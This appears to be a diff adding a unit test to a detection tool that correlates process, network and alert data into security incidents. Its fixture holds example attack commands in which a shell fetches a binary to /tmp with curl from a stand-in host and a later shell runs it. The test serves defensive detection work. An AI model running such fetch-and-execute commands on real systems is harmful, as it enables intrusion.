@@ -542,3 +542,23 @@ def test_curl_piped_to_sh_is_a_download_and_the_shells_repeated_calls_a_c2_named
     (e,) = i.endpoints
     assert (e.ip, e.port, e.role, e.fqdn) == ("203.0.113.20", 443, "c2", "c.example")
     assert "T1105" in i.techniques  # the fetch piped into the shell
+
+
+def test_a_program_fetched_by_one_command_and_run_by_a_later_one_is_one_incident_without_file_hooks():
+    """Two requests into a service: the first's shell downloads /tmp/k (``curl -o``), the
+    second's runs it; no file hook saw the write, the arguments name the path."""
+    procs = [proc("main", None, "web-1", "/srv/app", t=-1000 * S, seen="event"),
+             proc("sh1", "main", "web-1", "/bin/sh", "-c curl -so /tmp/k https://dl.example/k", 100 * S, exit_ns=104 * S),
+             proc("curl", "sh1", "web-1", "/usr/bin/curl", "-so /tmp/k https://dl.example/k", 100 * S + 2 * MS,
+                  exit_ns=104 * S),
+             proc("sh2", "main", "web-1", "/bin/sh", "-c /tmp/k --scan", 160 * S, exit_ns=170 * S),
+             proc("k", "sh2", "web-1", "/tmp/k", "--scan", 160 * S + 2 * MS, exit_ns=170 * S)]
+    out = ("a", "web-1")
+    flows = [flow("d", 100 * S + 10 * MS, "curl", out, None, 443, dst_ip="203.0.113.30"),
+             flow("o", 161 * S, "k", out, None, 4444, dst_ip="203.0.113.31")]
+    hits = _hits([{"rule_id": "falco:Binary run from /tmp", "title": "Binary run from /tmp", "level": "high",
+                   "techniques": ["T1036"], "exec_id": "k", "event_id": "h1"}])
+    (i,) = find_in(**frames(procs, flows, hits=hits)).incidents
+    assert i.key_command is not None and i.key_command.exec_id == "k"
+    assert i.chain == ["sh1", "curl", "k"]
+    assert {(e.ip, e.role) for e in i.endpoints} >= {("203.0.113.30", "download")}
